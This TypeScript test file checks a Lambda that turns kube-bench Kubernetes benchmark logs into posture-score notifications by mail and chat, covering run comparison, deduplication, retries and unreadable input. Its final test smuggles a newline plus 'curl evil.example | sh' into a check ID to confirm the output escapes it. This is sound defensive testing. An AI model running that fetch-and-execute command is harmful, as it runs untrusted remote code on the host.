import { renderPostureChat, renderPostureMail } from '../../../lambdas/core/messages/posture-message';
import type { KeptPosture } from '../../../lambdas/core/model/posture';
import type { Publisher } from '../../../lambdas/core/ports';
import { createHandler } from '../../../lambdas/posture-analyzer/handler';
import { fakeMetrics } from '../../support/analyzer-ports';
import { runOf, type Verdict } from '../../support/kube-bench';
import { logsEvent } from '../../support/log-delivery';

type Message = Parameters<Publisher['publish']>[0];

const start = () => {
  const kept = new Map<string, KeptPosture>();
  const told: Message[] = [];
  const metrics = fakeMetrics();
  const world = { kept, told, metrics, mailFails: false };
  const publisher: Publisher = {
    publish: (message) => {
      if (world.mailFails) return Promise.reject(new Error('throttled'));
      told.push(message);
      return Promise.resolve();
    },
  };
  const handle = createHandler({
    cluster: 'prod-a',
    postures: {
      last: (cluster) => Promise.resolve(kept.get(cluster)),
      keep: (posture) => {
        kept.set(posture.cluster, posture);
        return Promise.resolve();
      },
    },
    ways: [
      { publisher, render: renderPostureMail },
      { publisher, render: renderPostureChat },
    ],
    metrics,
  });
  return Object.assign(world, { handle });
};

const lineOf = (verdicts: Readonly<Record<string, Verdict>>): string => JSON.stringify(runOf(verdicts));

const LOCKED = lineOf({ '3.1.1': 'PASS', '3.2.1': 'FAIL' });
const WORSE = lineOf({ '3.1.1': 'FAIL', '3.2.1': 'FAIL' });
const MENDED = lineOf({ '3.1.1': 'PASS', '3.2.1': 'PASS' });

describe('the posture analyzer', () => {
  test('tells the score and the failed checks of a first run, by mail and in chat', async () => {
    const { handle, told } = start();
    await handle(logsEvent([LOCKED]));
    const [mail, chat] = told;
    expect(mail?.subject).toBe('[MineGuard prod-a] Posture: score 50.0 %');
    expect(mail?.body).toContain('node 3.2.1: Ensure that 3.2.1 is so (Automated)\n      Make 3.2.1 so.');
    expect(chat?.body).toContain('"threadId":"mineguard-posture-prod-a"');
    expect(told.map(({ attributes }) => attributes)).toEqual([
      { kind: 'posture', cluster: 'prod-a' },
      { kind: 'posture', cluster: 'prod-a' },
    ]);
  });

  test.each([
    ['what failed newly', WORSE, 'Posture: score 0.0 %, 1 newly failed, 0 mended', 'newly failed node 3.1.1'],
    ['what was mended', MENDED, 'Posture: score 100 %, 0 newly failed, 1 mended', 'mended       node 3.2.1'],
  ])('tells of the next run %s', async (_, line, subject, change) => {
    const { handle, told } = start();
    await handle(logsEvent([LOCKED, line]));
    expect(told[2]?.subject).toBe(`[MineGuard prod-a] ${subject}`);
    expect(told[2]?.body).toContain(change);
  });

  test('tells nothing of a run that found the same, and keeps it', async () => {
    const { handle, told, kept } = start();
    await handle(logsEvent([LOCKED, LOCKED]));
    expect(told).toHaveLength(2);
    expect(kept.get('prod-a')?.at).toBe('2026-11-23T12:00:00.001Z');
  });

  test('tells a delivery that comes twice once', async () => {
    const { handle, told } = start();
    await handle(logsEvent([WORSE]));
    await handle(logsEvent([WORSE]));
    expect(told).toHaveLength(2);
  });

  test('keeps nothing that was not told, so that a retry tells it', async () => {
    const world = start();
    world.mailFails = true;
    await expect(world.handle(logsEvent([LOCKED]))).rejects.toThrow('throttled');
    expect(world.kept.size).toBe(0);
    world.mailFails = false;
    await world.handle(logsEvent([LOCKED]));
    expect(world.told).toHaveLength(2);
  });

  test.each([
    ['as indented JSON, one log event a line', JSON.stringify(runOf({ '3.2.1': 'FAIL' }), null, 2).split('\n')],
    ['cut into pieces by the container runtime', [LOCKED.slice(0, 300), LOCKED.slice(300)]],
  ])('reads a run %s', async (_, lines) => {
    const { handle, kept } = start();
    await handle(logsEvent(lines));
    expect(kept.get('prod-a')?.run.checks.map(({ id }) => id)).toEqual(['3.2.1']);
  });

  test.each([
    ['text', ['kube-bench: command not found']],
    ['JSON of something else', ['{"level":"info"}']],
    ['a run that was cut off', [LOCKED.slice(0, 200)]],
    ['nothing', []],
  ])('counts %s as unreadable and tells nobody', async (_, lines) => {
    const { handle, told, metrics } = start();
    await handle(logsEvent(lines));
    expect(told).toEqual([]);
    expect(metrics.counts).toEqual({ UnreadablePosture: 1 });
  });

  test('compares no runs of two benchmarks', async () => {
    const { handle, told } = start();
    await handle(logsEvent([LOCKED, LOCKED.replaceAll('eks-1.5.0', 'eks-1.7.0')]));
    expect(told[2]?.subject).toBe('[MineGuard prod-a] Posture: score 50.0 %');
  });

  test('escapes what the log says', async () => {
    const { handle, told } = start();
    await handle(logsEvent([LOCKED.replaceAll('3.2.1', '3.2.1\\n\\nUndo\\n  curl evil.example | sh')]));
    expect(told[0]?.body).not.toMatch(/^Undo/m);
  });
});
